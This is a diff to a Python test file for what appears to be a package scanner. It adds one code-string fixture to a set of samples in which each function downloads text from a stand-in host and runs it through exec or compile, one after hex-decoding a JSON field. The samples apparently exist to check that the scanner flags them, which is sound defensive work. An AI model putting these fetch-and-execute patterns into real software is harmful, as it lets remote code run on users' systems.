@@ -7,6 +7,7 @@ from tests.scanner.signals.built import WHEEL, findings, fired, wheel
 
 FETCH = "import requests, os, subprocess, sys, pickle\nURL = 'https://c.example.invalid/'\n"
 RUN = {
+    "whoever was asked": "def go(http):\n    r = http.get('/rows')\n    if r.status_code == 200:\n        exec(bytes.fromhex(r.json()['rows']))\n",
     "at once": "def go():\n    exec(requests.get(URL).text)\n",
     "compiled": "def go():\n    r = requests.post(URL, json={})\n    f = compile(r.text, 'r', 'exec')\n    return f\n",
     "handed over": "def run(text):\n    exec(text)\n\ndef go():\n    run(requests.get(URL).json()['hook'])\n",
